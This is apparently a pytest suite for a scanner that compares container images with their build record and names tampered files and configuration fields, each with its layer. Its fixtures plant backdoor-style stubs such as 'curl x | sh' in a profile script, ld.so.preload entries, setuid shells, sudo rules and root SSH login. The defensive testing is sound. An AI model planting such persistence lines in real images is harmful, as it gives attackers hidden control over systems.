"""An image is compared with what it was assembled from: each planted defect is named, with its
layer.
"""

from __future__ import annotations

import io
import tarfile
from collections.abc import Mapping
from copy import deepcopy
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from images import catalog, debian, package_layer
from images.record import DebianPackage
from oci.manifest import image_manifest
from oci.registry import Registry
from scan.expected_configuration import compare_configurations
from scan.expected_image import compare_image
from scan.owners import load_owners
from tests.fakes.assembled_image import (
    CAPABLE,
    FOLDER,
    PACKAGES,
    REPOSITORY,
    SERVER,
    SITE,
    TORCH,
    AssembledImage,
    Change,
    TarFile,
    assemble_small,
    link_to,
    package_files,
    system_files,
    write_layer,
    write_status,
)
from tests.fakes.registry import FakeRegistry

LAYER = "layer 3 ("


@pytest.fixture
def assembled(client: Registry) -> AssembledImage:
    return assemble_small(client)


def problems(image: AssembledImage, *layers: Mapping[str, TarFile] | bytes) -> dict[str, str]:
    """What is found in the image with these layers on top, without the layers themselves."""
    _, found = compare_image(image.registry, image.derive(layers))
    return {each.where: each.what for each in found if not each.where.startswith("layer ")}


def test_an_image_of_our_assembly_is_as_expected(
    assembled: AssembledImage, fake: FakeRegistry
) -> None:
    counted, found = compare_image(assembled.registry, assembled.expected)
    assert found == ()
    assert (counted.known_layers, counted.foreign_layers, counted.read_layers) == (2, 0, 1)
    assert counted.paths == len(system_files())


def test_a_locked_layer_is_not_read(assembled: AssembledImage, fake: FakeRegistry) -> None:
    fake.requests.clear()
    compare_image(assembled.registry, assembled.expected)
    wheel = assembled.manifest.parse_blobs()[1].digest
    assert fake.requests
    assert not any(wheel in str(each) for each in fake.requests)


@dataclass(frozen=True)
class Planted:
    """A layer that somebody put on top, the path that must be named, and words about it."""

    files: Mapping[str, TarFile]
    path: str
    says: str


PLANTED = {
    "a module changed at the same size": Planted(
        {TORCH: TarFile(b"scale = 2.0\n")},
        f"/{TORCH}",
        "changes it; it belongs to torch 2.6.0; its contents differ (12 bytes as before)",
    ),
    "a file without RECORD": Planted(
        {f"{SITE}/torch/extra.py": TarFile(b"x")},
        f"/{SITE}/torch/extra.py",
        "adds it, and no package owns it",
    ),
    "a library without metadata": Planted(
        {"usr/lib/libevil.so": TarFile(b"\x7fELF")}, "/usr/lib/libevil.so", "no package owns it"
    ),
    "setuid": Planted(
        {"usr/bin/dash": TarFile(b"a shell", mode=0o4755)},
        "/usr/bin/dash",
        "it belongs to Debian's dash; its mode is 4755, not 0755",
    ),
    "a new program with setuid": Planted(
        {"usr/bin/su": TarFile(b"su", mode=0o4755)},
        "/usr/bin/su",
        "it runs with its owner's or group's rights (mode 4755)",
    ),
    "file capabilities": Planted(
        {"usr/bin/dash": TarFile(b"a shell", mode=0o755, attributes=CAPABLE)},
        "/usr/bin/dash",
        "it has file capabilities",
    ),
    "another owner": Planted(
        {TORCH: TarFile(b"scale = 1.0\n", owner=(1000, 1000))},
        f"/{TORCH}",
        "its owner is 1000:1000, not 0:0",
    ),
    "a folder that anybody may write": Planted(
        {"usr/bin": replace(FOLDER, mode=0o777)}, "/usr/bin", "its mode is 0777, not 0755"
    ),
    "a file removed": Planted(
        {f"{SITE}/torch/.wh.nn.py": TarFile()}, f"/{TORCH}", "removes it; it belongs to torch 2.6.0"
    ),
    "a folder removed": Planted({f"{SITE}/.wh.torch": TarFile()}, f"/{SITE}/torch", "removes it"),
    "a folder emptied": Planted(
        {f"{SITE}/torch/.wh..wh..opq": TarFile()}, f"/{SITE}/torch", "removes it"
    ),
    "a link that leads elsewhere": Planted(
        {"usr/bin/sh": link_to("/opt/evil")},
        "/usr/bin/sh",
        "the link leads to `/opt/evil`, not `dash`",
    ),
    "a link in place of a file": Planted(
        {"usr/bin/tini": link_to("/opt/evil")},
        "/usr/bin/tini",
        "it is a symbolic link in place of a file",
    ),
    "a file in place of a folder": Planted(
        {f"{SITE}/torch": TarFile(b"x")}, f"/{SITE}/torch", "it is a file in place of a folder"
    ),
    "ld.so.preload": Planted(
        {"etc/ld.so.preload": TarFile(b"/opt/evil.so\n")},
        "/etc/ld.so.preload",
        "every program loads the libraries it names",
    ),
    "sitecustomize": Planted(
        {f"{SITE}/sitecustomize.py": TarFile(b"x")},
        f"/{SITE}/sitecustomize.py",
        "every Python runs it when it starts",
    ),
    "a .pth file": Planted(
        {f"{SITE}/zz.pth": TarFile(b"import os")}, f"/{SITE}/zz.pth", "runs its `import` lines"
    ),
    "a profile script": Planted(
        {"etc/profile.d/zz.sh": TarFile(b"curl x | sh")},
        "/etc/profile.d/zz.sh",
        "shells read it when they start",
    ),
    "a sudo rule": Planted(
        {"etc/sudoers.d/all": TarFile(b"ALL")},
        "/etc/sudoers.d/all",
        "it gives users the rights of others",
    ),
    "a cron job": Planted(
        {"etc/cron.d/job": TarFile(b"* * * * *")}, "/etc/cron.d/job", "it starts programs by itself"
    ),
    "an apt source": Planted(
        {"etc/apt/sources.list.d/x.list": TarFile(b"deb [trusted=yes] http://x x main")},
        "/etc/apt/sources.list.d/x.list",
        "packages are installed from where it says",
    ),
    "bytecode that is not of its source": Planted(
        {f"{SITE}/torch/__pycache__/nn.cpython-311.pyc": TarFile(b"x")},
        f"/{SITE}/torch/__pycache__/nn.cpython-311.pyc",
        "no package owns it",
    ),
    "a program without a package": Planted(
        {"usr/local/bin/tool": TarFile(b"ELF", mode=0o755)},
        "/usr/local/bin/tool",
        "no package owns it",
    ),
    "a device": Planted(
        {"opt/null": TarFile(kind=tarfile.CHRTYPE)}, "/opt/null", "a device or FIFO"
    ),
    "a hard link to another file": Planted(
        {"usr/bin/tini": TarFile(kind=tarfile.LNKTYPE, target="usr/bin/dash", mode=0o755)},
        "/usr/bin/tini",
        "its contents differ",
    ),
}


@pytest.mark.parametrize("name", PLANTED)
def test_what_a_layer_changes_is_named_with_the_layer(assembled: AssembledImage, name: str) -> None:
    planted = PLANTED[name]
    found = problems(assembled, planted.files)
    assert list(found) == [planted.path]
    assert planted.says in found[planted.path]
    assert found[planted.path].startswith(LAYER)


def test_folders_that_an_engine_writes_again_are_no_change(assembled: AssembledImage) -> None:
    assert not problems(assembled, {"usr": FOLDER, "usr/bin": FOLDER, "etc": FOLDER})


def test_an_added_folder_is_one_problem(assembled: AssembledImage) -> None:
    files = {"opt/junk": FOLDER, **{f"opt/junk/{number}": TarFile() for number in range(50)}}
    found = problems(assembled, files)
    assert list(found) == ["/opt/junk"]
    assert "adds it with 50 paths below it" in found["/opt/junk"]


def test_what_is_special_in_an_added_folder_is_named_itself(assembled: AssembledImage) -> None:
    found = problems(assembled, {"opt/junk": FOLDER, "opt/junk/su": TarFile(mode=0o4755)})
    assert set(found) == {"/opt/junk", "/opt/junk/su"}


def test_two_layers_are_compared_with_what_is_below_each(assembled: AssembledImage) -> None:
    """The second one puts back what the first one changed, and both are named."""
    _, found = compare_image(
        assembled.registry,
        assembled.derive([{TORCH: TarFile(b"2")}, {TORCH: TarFile(b"scale = 1.0\n")}]),
    )
    of_path = [each.what for each in found if each.where == f"/{TORCH}"]
    assert [what.partition(" (")[0] for what in of_path] == ["layer 3", "layer 4"]


def test_a_foreign_layer_is_named_even_if_it_is_empty(assembled: AssembledImage) -> None:
    counted, found = compare_image(assembled.registry, assembled.derive([{}]))
    assert counted.foreign_layers == 1
    assert [(each.kind, each.where[: len(LAYER)]) for each in found] == [("contents", LAYER)]
    assert "the image was not assembled from it" in found[0].what


def test_a_missing_layer_is_named(assembled: AssembledImage) -> None:
    described = assembled.manifest.parse_blobs()[2:]
    _, found = compare_image(assembled.registry, assembled.with_layers(described, assembled.config))
    assert "wheel: torch 2.6.0" in [each.where for each in found]


def test_layers_in_another_order_are_refused(assembled: AssembledImage) -> None:
    _, *described = assembled.manifest.parse_blobs()
    moved = assembled.with_layers(described[::-1], assembled.config)
    _, found = compare_image(assembled.registry, moved)
    assert [each.where for each in found] == ["the layers"]


@pytest.mark.parametrize(
    ("data", "says"),
    [
        pytest.param(b"\x28\xb5\x2f\xfd", "compressed with zstd", id="zstd"),
        pytest.param(b"\x1f\x8b\x08\x00" + bytes(20), "cannot be decompressed", id="damaged"),
        pytest.param(write_layer({"../etc": TarFile()}), "leads out of the image", id="out"),
        pytest.param(b"x" * 2000, "no complete tar archive", id="no tar"),
    ],
)
def test_a_layer_that_cannot_be_read_is_a_problem(
    assembled: AssembledImage, data: bytes, says: str
) -> None:
    _, found = compare_image(assembled.registry, assembled.derive([data]))
    assert any(says in each.what for each in found)


# The OS layer: it is known by its digest, and its own recipe can be wrong.


@dataclass(frozen=True)
class Faulty:
    """A change of the files of the OS layer, the path that is named, and words about it."""

    files: Mapping[str, TarFile | None]
    path: str
    says: str


FAULTY = {
    "a file that no package owns": Faulty(
        {"usr/bin/tool": TarFile(mode=0o755)}, "/usr/bin/tool", "no Debian package owns it"
    ),
    "another file of a package at the same size": Faulty(
        {"usr/bin/tini": TarFile(b"bn init", mode=0o755)},
        "/usr/bin/tini",
        "its contents are not those of tini",
    ),
    "a changed conffile": Faulty(
        {"etc/dash.conf": TarFile(b"evil\n")}, "/etc/dash.conf", "not those of dash"
    ),
    "a missing file": Faulty(
        {"usr/bin/tini": None}, "/usr/bin/tini", "it is missing, and tini brings it"
    ),
    "setuid": Faulty(
        {"usr/bin/tini": TarFile(b"an init", mode=0o4755)},
        "/usr/bin/tini",
        "its mode is 4755, not 0755 (a path of tini)",
    ),
    "capabilities": Faulty(
        {"usr/bin/tini": TarFile(b"an init", mode=0o755, attributes=CAPABLE)},
        "/usr/bin/tini",
        "it has file capabilities",
    ),
    "an owner": Faulty(
        {"usr/bin/tini": TarFile(b"an init", mode=0o755, owner=(1000, 0))},
        "/usr/bin/tini",
        "its owner is 1000:0, not 0:0",
    ),
    "a link in place of a file": Faulty(
        {"usr/bin/tini": link_to("dash")}, "/usr/bin/tini", "tini brings a file"
    ),
    "a link that leads to what nobody owns": Faulty(
        {"usr/bin/sh": link_to("/opt/evil"), "opt/evil": TarFile()},
        "/usr/bin/sh",
        "leads to `/opt/evil`, which no package owns",
    ),
    "a guest file": Faulty(
        {"usr/local/lib/image/start": TarFile(b"#!/bin/sh\nexit 0\n", mode=0o755)},
        "/usr/local/lib/image/start",
        "not those of images/base/guest/start.sh",
    ),
    "no guest file": Faulty(
        {"etc/profile.d/image.sh": None}, "/etc/profile.d/image.sh", "it is missing"
    ),
    "a home that only its owner may write": Faulty(
        {"home/mluser": replace(FOLDER, owner=(1000, 1000))},
        "/home/mluser",
        "its mode is 0755, not 1777",
    ),
    "an apt source that is trusted": Faulty(
        {"etc/apt/sources.list": TarFile(b"deb [trusted=yes] http://mirror.example/debian x main")},
        "/etc/apt/sources.list",
        "line 1 is not one of those that are listed",
    ),
    "a certificate that the package does not have": Faulty(
        {
            "usr/share/ca-certificates/mozilla/A.crt": None,
            "etc/ssl/certs/ca-certificates.crt": TarFile(b"MIIevil\n"),
        },
        "/etc/ssl/certs/ca-certificates.crt",
        "line 1 is not one of those that are listed",
    ),
    "a line in the script that activates the environment": Faulty(
        {"opt/venv/bin/activate": TarFile(b"VIRTUAL_ENV=/opt/venv\ncurl x | sh\n")},
        "/opt/venv/bin/activate",
        "line 2 is not one of those that are listed",
    ),
    "a second account": Faulty(
        {"etc/passwd": TarFile(b"root:x:0:0:root:/root:/opt/evil\n")}, "/etc/passwd", "line 1"
    ),
    "ld.so.preload": Faulty(
        {"etc/ld.so.preload": TarFile()}, "/etc/ld.so.preload", "every program loads"
    ),
    "a package that the build does not know": Faulty(
        {
            "var/lib/dpkg/status": TarFile(
                system_files()["var/lib/dpkg/status"].data
                + b"\nPackage: zz\nStatus: install ok installed\nVersion: 1\n"
            )
        },
        "/var/lib/dpkg/status",
        "the build did not record zz 1",
    ),
}


@pytest.mark.parametrize("name", FAULTY)
def test_the_os_layer_is_compared_path_by_path(client: Registry, name: str) -> None:
    faulty = FAULTY[name]
    files = {**system_files(), **faulty.files}
    image = assemble_small(client, {path: file for path, file in files.items() if file is not None})
    _, found = compare_image(client, image.expected)
    named = {each.where: each.what for each in found}
    assert faulty.says in named[faulty.path]
    assert "os: Debian bookworm" in named[faulty.path]
    assert len(found) == len([path for path in named if path in (faulty.path, "/opt/evil")])


# The layer of more Debian packages on top of it: both are compared as one file system.

SSHD = "usr/local/lib/image/sshd_config"
RECORD_OF_TINI = "var/lib/dpkg/info/tini.list"
OPENED = (
    package_layer.system_folder("ssh") / "sshd_config"
).read_bytes() + b"PermitRootLogin yes\n"


def having(
    files: Mapping[str, TarFile], changes: Mapping[str, TarFile | None]
) -> dict[str, TarFile]:
    """Files after changes; None leaves one out."""
    return {path: file for path, file in {**files, **changes}.items() if file is not None}


def faults_of(image: AssembledImage) -> dict[str, str]:
    _, found = compare_image(image.registry, image.expected)
    return {each.where: each.what for each in found}


def test_an_image_with_more_packages_is_as_expected(client: Registry) -> None:
    image = assemble_small(client, packages=package_files())
    counted, found = compare_image(client, image.expected)
    assert found == ()
    assert (counted.known_layers, counted.foreign_layers, counted.read_layers) == (3, 0, 2)
    assert counted.paths == len(system_files()) + len(package_files())


ADDED = {
    "setuid": Faulty(
        {"usr/sbin/sshd": TarFile(b"a server", mode=0o4755)},
        "/usr/sbin/sshd",
        "its mode is 4755, not 0755 (a path of openssh-server)",
    ),
    "setuid on a program of the OS layer": Faulty(
        {"usr/bin/dash": TarFile(b"a shell", mode=0o4755)},
        "/usr/bin/dash",
        "its mode is 4755, not 0755 (a path of dash)",
    ),
    "capabilities": Faulty(
        {"usr/sbin/sshd": TarFile(b"a server", mode=0o755, attributes=CAPABLE)},
        "/usr/sbin/sshd",
        "it has file capabilities",
    ),
    "a changed file": Faulty(
        {"usr/sbin/sshd": TarFile(b"b server", mode=0o755)},
        "/usr/sbin/sshd",
        "its contents are not those of openssh-server",
    ),
    "a changed file of the OS layer": Faulty(
        {"usr/bin/tini": TarFile(b"bn init", mode=0o755)},
        "/usr/bin/tini",
        "its contents are not those of tini",
    ),
    "an extra file": Faulty(
        {"usr/sbin/backdoor": TarFile(mode=0o755)},
        "/usr/sbin/backdoor",
        "no Debian package owns it",
    ),
    "a file of a wheel": Faulty(
        {TORCH: TarFile(b"scale = 2.0\n")}, f"/{TORCH}", "no Debian package owns it"
    ),
    "a missing file": Faulty(
        {"usr/sbin/sshd": None},
        "/usr/sbin/sshd",
        "os: Debian bookworm` with layer 3",
    ),
    "a file of the OS layer removed": Faulty(
        {"usr/bin/.wh.tini": TarFile()}, "/usr/bin/tini", "it is missing, and tini brings it"
    ),
    "a package of the OS layer removed, and not from dpkg's list": Faulty(
        {"usr/bin/.wh.tini": TarFile(), "var/lib/dpkg/info/.wh.tini.list": TarFile()},
        f"/{RECORD_OF_TINI}",
        "removes it from the layers below",
    ),
    "a folder of wheels removed": Faulty(
        {f"{SITE}/.wh.torch": TarFile()}, f"/{SITE}/torch", "removes it from the layers below"
    ),
    "a folder emptied": Faulty(
        {"srv/.wh..wh..opq": TarFile()}, "/srv", "removes it from the layers below"
    ),
    "a link of a package that leads elsewhere": Faulty(
        {"usr/bin/sh": link_to("/usr/sbin/evil"), "usr/sbin/evil": TarFile(mode=0o755)},
        "/usr/bin/sh",
        "leads to `/usr/sbin/evil`, which no package owns",
    ),
    "a host key": Faulty(
        {"etc/ssh/ssh_host_ed25519_key": TarFile(b"key", mode=0o600)},
        "/etc/ssh/ssh_host_ed25519_key",
        "everybody who has the image has the key of the server",
    ),
    "a host key in our own folder": Faulty(
        {"var/lib/ssh-server/ssh_host_ed25519_key": TarFile(b"key", mode=0o600)},
        "/var/lib/ssh-server/ssh_host_ed25519_key",
        "no Debian package owns it",
    ),
    "a key that may log in": Faulty(
        {"home/mluser/.ssh/authorized_keys": TarFile(b"ssh-ed25519 AAAA")},
        "/home/mluser/.ssh/authorized_keys",
        "it says who may log in",
    ),
    "root may log in": Faulty(
        {SSHD: TarFile(OPENED)}, f"/{SSHD}", "not those of images/ssh/system/sshd_config"
    ),
    "root may log in to a server with Debian's configuration": Faulty(
        {"etc/ssh/sshd_config": TarFile(b"PermitRootLogin yes\n")},
        "/etc/ssh/sshd_config",
        "its contents are not those of /usr/share/openssh/sshd_config",
    ),
    "a configuration beside it": Faulty(
        {"etc/ssh/sshd_config.d/root.conf": TarFile(b"PermitRootLogin yes\n")},
        "/etc/ssh/sshd_config.d/root.conf",
        "it says who may log in",
    ),
    "another start of the server": Faulty(
        {"usr/local/lib/image/start_ssh.py": TarFile(b"x")},
        "/usr/local/lib/image/start_ssh.py",
        "not those of images/ssh/system/start_ssh.py",
    ),
    "no start of the server": Faulty(
        {"usr/local/lib/image/start_ssh.py": None},
        "/usr/local/lib/image/start_ssh.py",
        "it is missing",
    ),
    "keys that everybody may replace": Faulty(
        {"var/lib/ssh-server": replace(FOLDER, mode=0o777, owner=(1000, 1000))},
        "/var/lib/ssh-server",
        "its mode is 0777, not 0700",
    ),
    "a user": Faulty(
        {"etc/passwd": TarFile(b"eve:x:1001:1001::/home/eve:/bin/bash\n")},
        "/etc/passwd",
        "line 1 is not one of those that are listed",
    ),
    "a second root": Faulty(
        {"etc/passwd": TarFile(b"games:x:0:0:games:/usr/games:/usr/sbin/nologin\n")},
        "/etc/passwd",
        "line 1 is not one of those that are listed",
    ),
    "a member of a group": Faulty(
        {"etc/group": TarFile(b"root:x:0:\nshadow:x:42:mluser\n")},
        "/etc/group",
        "line 2 is not one of those that are listed",
    ),
    "a library of a volume in the cache of the linker": Faulty(
        {"etc/ld.so.cache": TarFile(b"glibc\x00\x01/\x00libc.so.6\x00/workspace/libc.so.6\x00")},
        "/etc/ld.so.cache",
        "it names `/workspace/libc.so.6`, which no package owns",
    ),
    "a path of another stack": Faulty(
        {"usr/local/cuda": FOLDER}, "/usr/local/cuda", "no Debian package owns it"
    ),
    "ld.so.preload": Faulty(
        {"etc/ld.so.preload": TarFile()}, "/etc/ld.so.preload", "every program loads"
    ),
    "a package that the build does not know": Faulty(
        {
            "var/lib/dpkg/status": TarFile(
                write_status((*PACKAGES, SERVER, DebianPackage("zz", "1")))
            )
        },
        "/var/lib/dpkg/status",
        "the build did not record zz 1",
    ),
    "a list of packages that lacks those of the OS layer": Faulty(
        {"var/lib/dpkg/status": TarFile(write_status((PACKAGES[0], SERVER)))},
        "/var/lib/dpkg/status",
        "dpkg does not list tini 0.19.0-1",
    ),
}


@pytest.mark.parametrize("name", ADDED)
def test_the_layer_of_more_packages_is_compared_path_by_path(client: Registry, name: str) -> None:
    faulty = ADDED[name]
    found = faults_of(assemble_small(client, packages=having(package_files(), faulty.files)))
    assert faulty.says in found[faulty.path]
    assert "debian: Debian packages of ssh" in found[faulty.path]
    rest = set(found) - {faulty.path} - {f"/{path}" for path in faulty.files}
    assert all("tini" in path for path in rest)


@pytest.mark.parametrize("path", [SSHD, "etc/ssh/sshd_config", "var/lib/ssh-server", "etc/passwd"])
def test_what_a_stack_brings_is_excused_in_its_own_layer_alone(client: Registry, path: str) -> None:
    """Not in the OS layer, which all images share, neither in `base` nor in `ssh`."""
    system = {**system_files(), path: package_files()[path]}
    found = faults_of(assemble_small(client, system))
    assert list(found) == [f"/{path}"]
    above = having(package_files(), {path: None})
    found = faults_of(assemble_small(client, system, above))
    assert "os: Debian bookworm" in found[f"/{path}"]
    assert "debian: Debian packages" not in found[f"/{path}"]


def test_a_newer_version_of_a_package_of_the_os_layer(client: Registry) -> None:
    """A whiteout hides a file that it no longer has, and the bytecode of it."""
    old = {
        "usr/lib/tini.py": TarFile(b"old"),
        "usr/lib/__pycache__": FOLDER,
        "usr/lib/__pycache__/tini.cpython-311.pyc": TarFile(b"old"),
    }
    listed = system_files()[RECORD_OF_TINI].data + b"/usr/lib\n"
    before = {**old, RECORD_OF_TINI: TarFile(listed + b"/usr/lib/tini.py\n")}
    packages = (PACKAGES[0], DebianPackage("tini", "0.20"), SERVER)
    hidden = (".wh.tini.py", "__pycache__/.wh.tini.cpython-311.pyc")
    gone = {f"usr/lib/{each}": TarFile() for each in hidden}
    after = {
        RECORD_OF_TINI: TarFile(listed),
        "var/lib/dpkg/status": TarFile(write_status(packages)),
    }
    system = {**system_files(), "usr/lib": FOLDER, **before}
    layer = {**package_files(), **after, **gone}
    assert not faults_of(assemble_small(client, system, layer, packages))
    without = having(layer, {"usr/lib/.wh.tini.py": None})
    found = faults_of(assemble_small(client, system, without, packages))
    assert list(found) == ["/usr/lib/tini.py"]


def test_a_hard_link_keeps_the_contents_that_it_had(client: Registry) -> None:
    """It is of the OS layer, and the layer above writes the other name of the file anew."""
    owned = system_files()["var/lib/dpkg/info/tini.list"].data + b"/usr/bin/tini0\n"
    sums = system_files()["var/lib/dpkg/info/tini.md5sums"].data
    link = TarFile(mode=0o755, kind=tarfile.LNKTYPE, target="usr/bin/tini")
    system = {
        **system_files(),
        "usr/bin/tini": TarFile(b"old", mode=0o755),
        "usr/bin/tini0": link,
        RECORD_OF_TINI: TarFile(owned),
        "var/lib/dpkg/info/tini.md5sums": TarFile(sums + sums.replace(b"tini", b"tini0")),
    }
    layer = {**package_files(), "usr/bin/tini": system_files()["usr/bin/tini"]}
    found = faults_of(assemble_small(client, system, layer))
    assert list(found) == ["/usr/bin/tini0"]
    assert "os: Debian bookworm" in found["/usr/bin/tini0"]
    assert not faults_of(assemble_small(client, system, {**layer, "usr/bin/tini0": link}))


def test_a_layer_on_top_of_more_packages_names_their_owner(client: Registry) -> None:
    """The packages of the second layer name their paths through the links of the first one."""
    listed = package_files()["var/lib/dpkg/info/openssh-server.list"].data
    through = listed.replace(b"/usr/sbin/sshd\n", b"/bin/sshd\n")
    layer = {
        **package_files(),
        "usr/sbin/sshd": TarFile(b"x"),
        "usr/bin/sshd": TarFile(b"a server"),
        "var/lib/dpkg/info/openssh-server.list": TarFile(through),
    }
    image = assemble_small(client, packages=layer)
    found = problems(image, {"usr/bin/sshd": TarFile(b"b server")})
    assert "it belongs to Debian's openssh-server" in found["/usr/bin/sshd"]


def test_a_missing_layer_of_packages_is_named(client: Registry) -> None:
    image = assemble_small(client, packages=package_files())
    _, *described, _ = image.manifest.parse_blobs()
    _, found = compare_image(client, image.with_layers(described, image.config))
    named = {each.where: each.what for each in found}
    assert "the layer of the build is missing" in named["debian: Debian packages of ssh"]
    build = replace(image.expected.build, layers=image.expected.build.layers[:1])
    _, found = compare_image(client, replace(image.expected, build=build))
    named = {each.where: each.what for each in found}
    assert "its record names none" in named["debian: Debian packages of ssh"]


def test_each_of_our_own_files_is_in_the_list() -> None:
    """Also those of stacks: a file without an entry refuses its image, if nobody thought of it."""
    listed = {each.guest_path for each in load_owners().paths if each.guest}
    ours = {
        *(path for path in (debian.dockerfile_path().parent / debian.GUEST).iterdir()),
        *(path for stack in catalog.load_catalog().stacks for path in system_of(stack)),
    }
    recipes = {"install.sh", "newest.sh", "index.sh"}
    assert listed == {path for path in ours if path.name not in recipes and path.is_file()}


def system_of(stack: str) -> list[Path]:
    folder = package_layer.system_folder(stack)
    return list(folder.iterdir()) if folder.is_dir() else []


def test_the_list_names_stacks_that_add_something() -> None:
    """An entry for a stack without a layer of packages would count for no path."""
    owners, shipped = load_owners(), catalog.load_catalog()
    named = {each.stack for each in owners.paths} | {each.stack for each in owners.modes}
    named |= {stack for each in owners.paths for stack in each.stack_lines}
    adding = {
        name for name, stack in shipped.stacks.items() if stack.os.packages or system_of(name)
    }
    assert named == {"", *adding}


# The configuration


def set_run(name: str, value: Any) -> Change:
    """Somebody sets a field of how a container runs."""
    return lambda config: config["config"].update({name: value})


def add_variable(variable: str) -> Change:
    return lambda config: config["config"]["Env"].append(variable)


def change_path(config: dict[str, Any]) -> None:
    environment = config["config"]["Env"]
    environment[0] = "PATH=/usr/bin:/opt/venv/bin"


def drop_label(name: str) -> Change:
    return lambda config: config["config"]["Labels"].pop(name)


def set_top(name: str, value: Any) -> Change:
    return lambda config: config.update({name: value})


CONFIGURED: dict[str, tuple[Change, str, str]] = {
    "a volume": (set_run("Volumes", {f"/{SITE}": {}}), f"Volumes /{SITE}", "the image has it"),
    "no labels": (
        set_run("Labels", None),
        "Labels org.opencontainers.image.title",
        "it is missing; the catalogue says",
    ),
    "no revision": (
        drop_label("org.opencontainers.image.revision"),
        "Labels org.opencontainers.image.revision",
        "it is missing",
    ),
    "another label": (
        lambda config: config["config"]["Labels"].update(
            {"io.github.pytorch-cuda-images.torch": "9"}
        ),
        "Labels io.github.pytorch-cuda-images.torch",
        "the catalogue says `2.6.0`",
    ),
    "another architecture": (
        set_top("architecture", "arm64"),
        "architecture",
        "it is `arm64`, the catalogue says `amd64`",
    ),
    "another system": (set_top("os", "windows"), "os", "the catalogue says `linux`"),
    "another variant": (set_top("variant", "v8"), "variant", "the image has it"),
    "a health check": (
        set_run("Healthcheck", {"Test": ["CMD", "curl"]}),
        "Healthcheck",
        "the image has it, and the catalogue does not",
    ),
    "an entry point that swallows exit codes": (
        set_run("Entrypoint", ["/bin/sh", "-c", '"$@" || true']),
        "Entrypoint",
        "the catalogue says `[",
    ),
    "no entry point": (set_run("Entrypoint", None), "Entrypoint", "it is missing"),
    "a command": (set_run("Cmd", ["python"]), "Cmd", "the catalogue says"),
    "a signal": (set_run("StopSignal", "SIGKILL"), "StopSignal", "the image has it"),
    "a trigger": (set_run("OnBuild", ["RUN evil"]), "OnBuild", "the image has it"),
    "a shell": (set_run("Shell", ["/bin/evil"]), "Shell", "the image has it"),
    "a folder": (set_run("WorkingDir", "/"), "WorkingDir", "it is `/`"),
    "a port": (set_run("ExposedPorts", {"22/tcp": {}}), "ExposedPorts 22/tcp", "the image has it"),
    "a user": (set_run("User", "0"), "User", "it is `0`, the catalogue says `1000:1000`"),
    "PATH": (change_path, "Env PATH", "it is `/usr/bin:/opt/venv/bin`"),
    "a history": (lambda config: config["history"].pop(), "history", "not that of its layers"),
    "other layers": (
        lambda config: config["rootfs"]["diff_ids"].reverse(),
        "rootfs",
        "other layers than the manifest",
    ),
    "a variable twice": (
        add_variable("LANG=C.UTF-8"),
        "Env",
        "given twice",
    ),
    **{
        variable: (add_variable(variable), f"Env {variable.partition('=')[0]}", "the image has it")
        for variable in (
            "CUDA_LAUNCH_BLOCKING=1",
            "NCCL_P2P_DISABLE=1",
            "NVIDIA_TF32_OVERRIDE=0",
            "PYTORCH_NO_CUDA_MEMORY_CACHING=1",
            "HTTPS_PROXY=http://proxy:3128",
            "PYTHONHASHSEED=0",
            "LD_PRELOAD=/opt/evil.so",
            "EMPTY=",
        )
    },
}


@pytest.mark.parametrize("name", CONFIGURED)
def test_a_field_of_the_configuration_is_named(assembled: AssembledImage, name: str) -> None:
    change, where, says = CONFIGURED[name]
    _, found = compare_image(assembled.registry, assembled.derive(change=change))
    named = {each.where: each for each in found}
    assert says in named[where].what
    assert {each.kind for each in found} == {"configuration"}
    assert name == "no labels" or len(found) == 1


def test_the_value_of_a_variable_is_never_shown(assembled: AssembledImage) -> None:
    change = add_variable("PIP_INDEX_URL=https://me:hunter2secret@example.org/simple")
    _, found = compare_image(assembled.registry, assembled.derive(change=change))
    assert "hunter2secret" not in repr(found)


def test_empty_fields_of_an_engine_are_no_difference(assembled: AssembledImage) -> None:
    def as_docker(config: dict[str, Any]) -> None:
        config["config"] |= {"Hostname": "", "Volumes": None, "OnBuild": None, "Tty": False}

    config = deepcopy(assembled.config)
    as_docker(config)
    assert not list(compare_configurations(assembled.config, config))


def test_other_bytes_that_mean_the_same_are_refused(assembled: AssembledImage) -> None:
    """Of the configuration, as another program writes it, and of the manifest."""
    change = set_run("Volumes", None)
    _, found = compare_image(assembled.registry, assembled.derive(change=change))
    assert ["written by another program" in each.what for each in found] == [True]
    described, *blobs = assembled.manifest.parse_blobs()
    manifest = image_manifest(described, blobs, {"org.opencontainers.image.title": "mine"})
    assembled.registry.put_manifest(REPOSITORY, manifest.digest, manifest)
    build = replace(assembled.expected.build, digest=manifest.digest)
    _, found = compare_image(assembled.registry, replace(assembled.expected, build=build))
    assert [each.where for each in found] == ["manifest"]


def test_many_problems_of_one_sort_are_counted(assembled: AssembledImage) -> None:
    layer = {f"opt/{number:03}": TarFile() for number in range(100)}
    found = problems(assembled, layer)
    assert len(found) == 21
    assert found["and others"].startswith("80 more")


def test_a_tar_that_goes_on_after_a_damaged_header_is_refused(assembled: AssembledImage) -> None:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        for name in ("a", "b"):
            tar.addfile(tarfile.TarInfo(name))
    damaged = bytearray(raw.getvalue())
    damaged[512 + 150] ^= 0xFF  # in the checksum of `b`
    _, found = compare_image(assembled.registry, assembled.derive([bytes(damaged)]))
    assert any("after the end of its archive" in each.what for each in found)
